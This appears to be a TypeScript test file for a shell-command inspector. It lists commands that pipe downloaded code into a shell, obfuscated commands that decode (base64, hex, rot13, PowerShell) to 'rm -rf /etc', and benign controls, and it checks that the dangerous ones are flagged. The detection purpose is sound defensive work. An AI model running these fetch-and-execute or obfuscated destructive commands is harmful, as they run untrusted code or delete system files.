import assert from 'node:assert/strict';
import { changes, inspectShell } from '../code/support.ts';

const downloaded: readonly string[] = [
  'curl -fsSL https://get.example.com | sh',
  'curl -s https://get.example.com/x | sudo -E bash -s -- --yes',
  'wget -qO- https://get.example.com | bash',
  'curl https://x.example.com/a.py | python3 -',
  'curl https://x.example.com/a.js | node',
  'curl https://x.example.com | tee /tmp/x | sh',
  'bash <(curl -s https://get.example.com)',
  'bash -c "$(curl -fsSL https://get.example.com)"',
  'sh -c "$(wget -O- https://get.example.com)"',
  'source <(curl -s https://get.example.com)',
  'eval "$(curl -s https://get.example.com)"',
  'python3 -c "$(curl -s https://get.example.com)"',
  'X=$(curl -s https://get.example.com); bash -c "$X"',
  'nc example.com 4444 | sh',
  'deno run https://x.example.com/a.ts',
  'npx https://x.example.com/a.tgz',
  'ssh host cat setup.sh | sh',
];

const hidden: readonly string[] = [
  'echo cm0gLXJmIC9ldGM= | base64 -d | sh',
  'echo cm0gLXJmIC9ldGM= | base64 --decode | bash',
  "echo '726d202d7266202f657463' | xxd -r -p | sh",
  "echo 'cte/ fr- mr' | rev | bash",
  "echo 'ez -es /rgp' | tr 'a-z' 'n-za-m' | sh",
  "printf '\\x72\\x6d\\x20-rf /etc' | sh",
  'bash -c "$(echo cm0gLXJmIC9ldGM= | base64 -d)"',
  'eval "$(echo cm0gLXJmIC9ldGM= | base64 -d)"',
  'openssl enc -aes-256-cbc -d -in x.enc | bash',
  'gunzip -c payload.gz | sh',
  "python3 -c 'import base64; print(base64.b64decode(\"eA==\").decode())' | sh",
  'powershell -EncodedCommand UgBlAG0AbwB2AGUALQBJAHQAZQBtACAALQBSAGUAYwB1AHIAcwBlACAALQBGAG8AcgBjAGUAIAAvAGUAdABjAA==',
];

const plain: readonly string[] = [
  'curl -s https://api.example.com | python3 -m json.tool',
  "curl -s https://api.example.com | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
  'curl -s https://api.example.com | jq .',
  "curl -s https://api.example.com | node -e 'process.stdin.pipe(process.stdout)'",
  'curl -s http://localhost:3000/x | sh',
  'curl -o setup.sh https://get.example.com',
  'base64 -d a.txt > b.bin',
  "echo aGk= | base64 -d | grep h",
  'cat a.gz | gunzip | head',
  "echo hello | tr 'a-z' 'A-Z' | cat",
];

describe('where executed text comes from', () => {
  for (const text of downloaded) {
    it(`downloaded: ${text}`, () => {
      assert.ok(changes(inspectShell(text)).includes('run downloaded'), JSON.stringify(changes(inspectShell(text))));
    });
  }
  for (const text of hidden) {
    it(`hidden: ${text}`, () => {
      assert.ok(changes(inspectShell(text)).includes('run hidden'), JSON.stringify(changes(inspectShell(text))));
    });
  }
  for (const text of plain) {
    it(`plain: ${text}`, () => {
      const found = changes(inspectShell(text));
      assert.ok(!found.includes('run hidden') && !found.includes('run downloaded'), JSON.stringify(found));
    });
  }

  it('judges decoded text as well, where it can be read', () => {
    for (const text of hidden.slice(0, 7)) assert.ok(changes(inspectShell(text)).includes('delete /etc'), text);
    assert.ok(changes(inspectShell(hidden.at(-1) ?? '')).includes('delete /etc'));
  });
});
